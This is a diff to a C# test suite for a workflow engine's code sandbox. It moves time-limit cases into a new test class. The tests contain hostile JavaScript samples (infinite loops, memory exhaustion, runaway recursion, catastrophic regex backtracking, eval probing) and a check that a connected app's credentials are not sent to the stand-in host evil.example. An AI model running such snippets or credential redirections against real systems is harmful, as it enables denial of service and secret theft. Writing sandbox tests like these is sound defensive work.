@@ -68,6 +68,8 @@ public abstract class ExecuteTests(PatchbayApp app)
         Assert.Equal(2, (await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/execution?workflow_id={draft}&status=COMPLETED&execution_source=API_CALL", Ct))).GetProperty("totalDocs").GetInt32());
     }
 
+    // Code runs get minutes in tests (PatchbayApp), so each snippet is stopped by the limit it is written to hit, not
+    // by the clock of a busy machine; the time limit is CodeTimeLimitTests'.
     [Fact]
     public async Task HostileCode_FailsOnlyItsNode_WithAClearError()
     {
@@ -75,7 +77,6 @@ public abstract class ExecuteTests(PatchbayApp app)
         var client = app.ClientFor(key, account);
         foreach (var (code, message) in new[]
         {
-            ("while (true) {}", "ran"),                                                    // statements or time
             ("const a = []; while (true) { a.push('x'.repeat(1000000)); }", "MB"),        // memory
             ("function f(n) { return f(n + 1) + 1; } return f(0);", "recursed deeper"),   // recursion
             ("return globalThis.System === undefined && typeof require === 'undefined' ? eval('1') : 'host';", "String compilation has been disabled"), // no eval, no host
@@ -86,17 +87,9 @@ public abstract class ExecuteTests(PatchbayApp app)
             ("return 'x'.repeat(2 ** 27).length;", "MB"),
             ("return new ArrayBuffer(2 ** 29).byteLength;", "MB"),
             ("return Atomics.wait(new Int32Array(new SharedArrayBuffer(16)), 0, 0, 20000);", "Atomics.wait cannot be used"),
-            ("return /(a+)+$/.test('a'.repeat(40) + 'b');", "ran longer than 2000 ms"),
         })
         {
-            var (_, version) = await PublishAsync(client, Graph([Node("start", "start"), Node("evil", "code", new { code })], [Edge("start", "evil")]));
-            var result = await ApiAssert.JsonAsync(await client.SendAsync(Execute(version, new { }, sync: true), Ct), 500);
-            Assert.True(result.GetProperty("errored").GetBoolean());
-            var detail = await ExecutionAsync(client, result.Str("execution_id"));
-            Assert.Equal("ERRORED", detail.Str("status"));
-            var node = detail.GetProperty("nodes").EnumerateArray().Single(n => n.Str("node_id") == "evil");
-            Assert.Equal("Errored", node.Str("node_status"));
-            Assert.Contains(message, node.Str("error"));
+            await AssertNodeFailsAsync(client, code, message);
         }
         // A connected app's credentials go only to its own API.
         var (_, leak) = await PublishAsync(client, Graph([Node("start", "start"), Node("steal", "http", new { app = "stripe", path = "https://evil.example/x" })],
@@ -107,7 +100,37 @@ public abstract class ExecuteTests(PatchbayApp app)
         var (_, ok) = await PublishAsync(client, (JsonObject)CodeFlow.DeepClone());
         await ApiAssert.OkAsync(await client.SendAsync(Execute(ok, new { amount = 1 }, sync: true), Ct));
     }
+
+    // Runs the code in a node of its own workflow, synchronously: the execution and that node errored with the message.
+    internal static async Task AssertNodeFailsAsync(HttpClient client, string code, string message)
+    {
+        var (_, version) = await PublishAsync(client, Graph([Node("start", "start"), Node("evil", "code", new { code })], [Edge("start", "evil")]));
+        var result = await ApiAssert.JsonAsync(await client.SendAsync(Execute(version, new { }, sync: true), Ct), 500);
+        Assert.True(result.GetProperty("errored").GetBoolean());
+        var detail = await ExecutionAsync(client, result.Str("execution_id"));
+        Assert.Equal("ERRORED", detail.Str("status"));
+        var node = detail.GetProperty("nodes").EnumerateArray().Single(n => n.Str("node_id") == "evil");
+        Assert.Equal("Errored", node.Str("node_status"));
+        Assert.Contains(message, node.Str("error"));
+    }
 }
 
 public sealed class SqliteExecuteTests(SqliteApp<FakeProviderOptions> app) : ExecuteTests(app), IClassFixture<SqliteApp<FakeProviderOptions>>;
 public sealed class PostgresExecuteTests(PostgresApp<FakeProviderOptions> app) : ExecuteTests(app), IClassFixture<PostgresApp<FakeProviderOptions>>;
+
+// Code that only the clock stops, under the default 2 s limit: the node fails with the time limit's message, whatever
+// the machine's load (these snippets never end by themselves within their statement budget).
+public abstract class CodeTimeLimitTests(PatchbayApp app)
+{
+    [Fact]
+    public async Task EndlessCode_FailsOnlyItsNode_AtTheTimeLimit()
+    {
+        var (key, account) = await OrgAsync(app);
+        var client = app.ClientFor(key, account);
+        await ExecuteTests.AssertNodeFailsAsync(client, "while (true) {}", "ran"); // its statements or its time
+        await ExecuteTests.AssertNodeFailsAsync(client, "return /(a+)+$/.test('a'.repeat(40) + 'b');", "ran longer than 2000 ms");
+    }
+}
+
+public sealed class SqliteCodeTimeLimitTests(SqliteApp<CodeTimeLimitOptions> app) : CodeTimeLimitTests(app), IClassFixture<SqliteApp<CodeTimeLimitOptions>>;
+public sealed class PostgresCodeTimeLimitTests(PostgresApp<CodeTimeLimitOptions> app) : CodeTimeLimitTests(app), IClassFixture<PostgresApp<CodeTimeLimitOptions>>;
